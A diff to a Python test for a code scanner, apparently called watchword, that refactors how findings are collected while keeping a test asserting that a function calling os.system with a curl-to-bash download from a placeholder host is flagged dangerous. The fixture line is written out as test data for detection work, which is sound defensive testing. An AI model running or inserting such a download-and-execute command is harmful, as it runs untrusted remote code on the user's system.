@@ -2,20 +2,16 @@
 
 from __future__ import annotations
 
-from inspect_samples import found, look
+from inspect_samples import found, told
 
 from watchword.inspect.facts import Verdict
 
 
 def test_a_download_piped_into_a_shell_is_dangerous() -> None:
     """The command is told even where only a call of the function would run it."""
-    told = {
-        (finding.rule, finding.verdict)
-        for finding in look(
-            b"import os\ndef f():\n    os.system('curl -s https://a.example/x | bash')\n", "shipped.py"
-        ).findings
-    }
-    assert ("python-command", Verdict.DANGEROUS) in told
+    assert ("python-command", Verdict.DANGEROUS) in told(
+        b"import os\ndef f():\n    os.system('curl -s https://a.example/x | bash')\n", "shipped.py"
+    )
 
 
 def test_an_ordinary_command_in_a_function_is_silent() -> None:
